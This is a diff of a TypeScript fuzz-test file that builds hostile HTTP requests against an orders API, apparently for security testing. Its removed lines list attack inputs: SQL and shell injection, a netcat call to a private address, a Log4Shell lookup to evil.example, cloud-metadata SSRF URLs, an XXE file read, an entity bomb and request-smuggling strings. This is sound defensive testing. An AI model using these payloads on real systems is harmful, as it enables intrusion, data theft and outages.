@@ -1,6 +1,24 @@
 import { deflateRawSync, gzipSync } from 'node:zlib';
 import fc from 'fast-check';
 import type { RawRequest } from '../../cli/drill/client';
+import {
+  type Header,
+  INJECTIONS,
+  URLS,
+  NUMBERS,
+  STRANGE,
+  TYPES,
+  PATHS,
+  NAMES,
+  RAW_QUERIES,
+  HEADERS,
+  WIRE,
+  DEPTHS,
+  SIZES,
+  DTD,
+  BOMB,
+  MEMBERS,
+} from './hostile-tables';
 
 /** A request that no honest client sends, or bytes that no HTTP library would. */
 export interface Hostile {
@@ -39,53 +57,6 @@ export const BASES: readonly Base[] = [
   },
 ];
 
-const INJECTIONS: readonly string[] = [
-  "' OR 1=1--",
-  "x'; DROP TABLE orders; --",
-  '1 UNION SELECT password FROM users',
-  '; cat /etc/passwd',
-  '$(curl http://169.254.169.254/)',
-  '`id`',
-  '| nc 10.0.0.1 4444',
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  '{{7*7}}${7*7}',
-  '${jndi:ldap://evil.example/a}',
-  '../../../../etc/passwd',
-  '..\\..\\windows\\win.ini',
-  '\u0000',
-  '\ud800',
-  '\u202e\u2066',
-  '%00%0d%0aSet-Cookie: a=b',
-  '\r\nX-Injected: 1',
-  '(&(uid=*)(password=*))',
-  "{'$gt': ''}",
-  '() { :; }; echo vulnerable',
-];
-const URLS: readonly string[] = [
-  'http://169.254.169.254/latest/meta-data/',
-  'http://[::ffff:a9fe:a9fe]/',
-  'http://2130706433/',
-  'http://0x7f.1/',
-  'http://localhost:6379/',
-  'file:///etc/passwd',
-  'gopher://127.0.0.1:25/',
-  'https://user:pass@10.0.0.1/',
-];
-const NUMBERS: readonly unknown[] = [-1, 0, 1.5, 1e308, -0, 2 ** 53, 2 ** 53 + 2, 1e21, '9'.repeat(400), '0x10', ' 1'];
-const STRANGE: readonly unknown[] = [
-  null,
-  true,
-  [],
-  {},
-  [[]],
-  '',
-  ' ',
-  'a'.repeat(5_000),
-  { $ref: '#/x' },
-  { toString: 1 },
-];
-
 const bases = fc.constantFrom(...BASES);
 const withBody = fc.constantFrom(...BASES.filter(({ body }) => body !== undefined));
 const hostileText = fc.oneof(fc.constantFrom(...INJECTIONS, ...URLS), fc.string({ unit: 'binary', maxLength: 60 }));
@@ -96,7 +67,6 @@ const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
   fc.jsonValue({ maxDepth: 4 }),
 );
 
-type Header = readonly [string, string];
 const JSON_TYPE: Header = ['Content-Type', 'application/json'];
 
 const withText = (base: Base, text: string | Buffer, headers: readonly Header[] = [JSON_TYPE]): RawRequest => ({
@@ -131,16 +101,6 @@ const values = fc.tuple(withBody, fc.nat(), hostileValue).map(([base, seed, valu
   return withText(base, JSON.stringify(replaced(base.body, place, value)) ?? 'null');
 });
 
-const MEMBERS = [
-  '__proto__',
-  'constructor',
-  'prototype',
-  'toString',
-  'hasOwnProperty',
-  'isAdmin',
-  'tenantId',
-  '$where',
-];
 const members = fc
   .tuple(withBody, fc.constantFrom(...MEMBERS), hostileValue)
   .map(([base, name, value]) =>
@@ -152,7 +112,6 @@ const duplicates = fc.tuple(withBody, fc.boolean()).map(([base, last]) => {
   return withText(base, last ? textOf(base).replace(/\}$/, `,${again}}`) : textOf(base).replace(/^\{/, `{${again},`));
 });
 
-const DEPTHS = [65, 500, 2_000, 20_000];
 const depth = fc
   .tuple(withBody, fc.constantFrom(...DEPTHS), fc.constantFrom('{"a":', '[', '[{"a":'))
   .map(([base, n, open]) => {
@@ -196,24 +155,6 @@ const overlong = withBody.map((base) =>
   ),
 );
 
-const TYPES: readonly (readonly string[])[] = [
-  [],
-  ['text/plain'],
-  ['application/xml'],
-  ['APPLICATION/JSON; charset=utf-16'],
-  ['application/json; charset=utf-8; x="'],
-  ['application/json, text/plain'],
-  ['application/json', 'text/xml'],
-  ['application/jsonx'],
-  ['application/json;/../xml'],
-  ['multipart/form-data; boundary=x'],
-  ['application/x-www-form-urlencoded'],
-  ['application/vnd.api+json'],
-  ['*/*'],
-  [''],
-  ['/'],
-  ['a'.repeat(4_000)],
-];
 const types = fc.tuple(withBody, fc.constantFrom(...TYPES)).map(([base, all]) =>
   withText(
     base,
@@ -222,8 +163,6 @@ const types = fc.tuple(withBody, fc.constantFrom(...TYPES)).map(([base, all]) =>
   ),
 );
 
-const DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';
-const BOMB = `<!DOCTYPE a [<!ENTITY a "aaaa">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "&a${n || ''};&a${n || ''};">`).join('')}]><a>&a8;</a>`;
 const xml = fc
   .tuple(
     withBody,
@@ -235,7 +174,6 @@ const xml = fc
     withText(base, Buffer.from(text, encoding as BufferEncoding), [['Content-Type', type]]),
   );
 
-const SIZES = [2_049, 4_097, 16_385, 65_536, 65_537, 200_000, 1_500_000];
 const sizes = fc.tuple(withBody, fc.constantFrom(...SIZES), fc.constantFrom(' ', 'pad')).map(([base, size, by]) => {
   const text = textOf(base);
   const rest = Math.max(0, size - text.length);
@@ -248,30 +186,6 @@ const encodings = fc
     return withText(base, packed, [JSON_TYPE, ['Content-Encoding', encoding]]);
   });
 
-const PATHS: readonly string[] = [
-  '/orders/%2e%2e/admin/orders',
-  '/orders/../admin/orders/ord-aaaaaaaa1/refund',
-  '//orders',
-  '/orders//lines',
-  '/orders/',
-  '/orders/%2f',
-  '/orders/ord-aaaaaaaa1%00',
-  '/orders/ord-aaaaaaaa1%c0%af',
-  '/orders/%ed%a0%80',
-  '/orders/%',
-  '/orders/%zz',
-  '/orders;x=1',
-  '/Orders',
-  '/orders/ord-aaaaaaaa1/..;/lines',
-  `/orders/${'a'.repeat(900)}`,
-  `/orders/${'a'.repeat(7_000)}`,
-  '/orders/ord-aaaaaaaa1?orderId=ord-bbbbbbbb2',
-  '/%6frders',
-  '/live/orders',
-  '/.git/config',
-  '/orders/*',
-  '/orders/{orderId}',
-];
 const paths = fc
   .tuple(fc.constantFrom('GET', 'POST', 'PUT', 'DELETE'), fc.constantFrom(...PATHS))
   .map(([method, path]): RawRequest => ({ method, path, headers: [] }));
@@ -283,19 +197,6 @@ const segments = fc.string({ unit: 'binary', maxLength: 40 }).map(
   }),
 );
 
-const NAMES = [
-  'limit',
-  'status',
-  'Limit',
-  'limit[]',
-  'limit[$gt]',
-  '__proto__',
-  '__proto__[a]',
-  'constructor',
-  'q',
-  'limit%00',
-  '',
-];
 const queryPart = fc.tuple(
   fc.constantFrom(...NAMES),
   fc.oneof(hostileText, fc.constantFrom('1', '5', '1e9', '-1', 'open')),
@@ -306,42 +207,10 @@ const queries = fc.array(queryPart, { minLength: 1, maxLength: 5 }).map((parts):
     .join('&');
   return { method: 'GET', path: `/orders?${query}`, headers: [] };
 });
-const RAW_QUERIES = [
-  'limit=1&limit=2',
-  'limit',
-  '&&&',
-  '=',
-  'limit=%',
-  'limit=%zz',
-  'limit=%00',
-  'limit=1;status=open',
-  `x=${'a'.repeat(3_000)}`,
-  'limit=1%262',
-  '?limit=1',
-];
 const rawQueries = fc
   .constantFrom(...RAW_QUERIES)
   .map((query): RawRequest => ({ method: 'GET', path: `/orders?${query}`, headers: [] }));
 
-const HEADERS: readonly Header[] = [
-  ['X-HTTP-Method-Override', 'DELETE'],
-  ['X-Original-URL', '/admin'],
-  ['X-Rewrite-URL', '/admin'],
-  ['X-Forwarded-For', '127.0.0.1'],
-  ['X-Forwarded-Host', 'evil.example'],
-  ['Forwarded', 'for=127.0.0.1;host=evil.example'],
-  ['X-Amzn-Waf-Trusted', '1'],
-  ['Accept', 'text/html,*/*;q=evil'],
-  ['Accept-Encoding', `gzip, ${'a,'.repeat(500)}`],
-  ['Range', `bytes=${'0-,'.repeat(500)}0-`],
-  ['If-Match', '"'.repeat(1_000)],
-  ['Cookie', '__proto__=1; a='],
-  ['Expect', '200-ok'],
-  ['User-Agent', '() { :; }; /bin/bash -c id'],
-  ['Referer', '<script>alert(1)</script>'],
-  ['Transaction-Token', 'e30.e30.e30'],
-  ['Authorization', 'Bearer x.y.z'],
-];
 const headers = fc.tuple(bases, fc.subarray([...HEADERS], { minLength: 1, maxLength: 4 })).map(
   ([base, extra]): RawRequest => ({
     method: base.method,
@@ -353,28 +222,6 @@ const headers = fc.tuple(bases, fc.subarray([...HEADERS], { minLength: 1, maxLen
 const methods = fc
   .tuple(bases, fc.constantFrom('HEAD', 'OPTIONS', 'TRACE', 'PATCH', 'DELETE', 'PROPFIND', 'SEARCH', 'PURGE'))
   .map(([base, method]): RawRequest => ({ method, path: base.path, headers: [] }));
-
-const JSON_HEAD = 'Host: HOST\r\nAuthorization: Bearer TOKEN\r\nUser-Agent: raw\r\nContent-Type: application/json\r\n';
-const WIRE: readonly string[] = [
-  `GET /orders\u0000 HTTP/1.1\r\n${JSON_HEAD}\r\n`,
-  `GET /orders HTTP/1.1\r\n${JSON_HEAD}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n`,
-  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x`,
-  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
-  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
-  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`,
-  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Content-Length: -1\r\n\r\n{}`,
-  `GET /orders HTTP/1.1\r\nHost: HOST\r\nHost: evil.example\r\n\r\n`,
-  'GET /orders HTTP/1.1\r\n\r\n',
-  'GET /orders HTTP/9.9\r\nHost: HOST\r\n\r\n',
-  'GET\r\n\r\n',
-  `GET /orders HTTP/1.1\r\n${JSON_HEAD}X-A : b\r\n\r\n`,
-  `GET /orders HTTP/1.1\r\n${JSON_HEAD}X-A: ${'a'.repeat(20_000)}\r\n\r\n`,
-  `GET /orders HTTP/1.1\r\n${JSON_HEAD}${'X-A: b\r\n'.repeat(400)}\r\n`,
-  `GET /orders HTTP/1.1\r\n${JSON_HEAD}X-A: b\u0001c\r\n\r\n`,
-  `GET http://evil.example/orders HTTP/1.1\r\n${JSON_HEAD}\r\n`,
-  'CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: HOST\r\n\r\n',
-  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
-];
 
 const kinds: Readonly<Record<string, fc.Arbitrary<RawRequest>>> = {
   'values out of their schema': values,
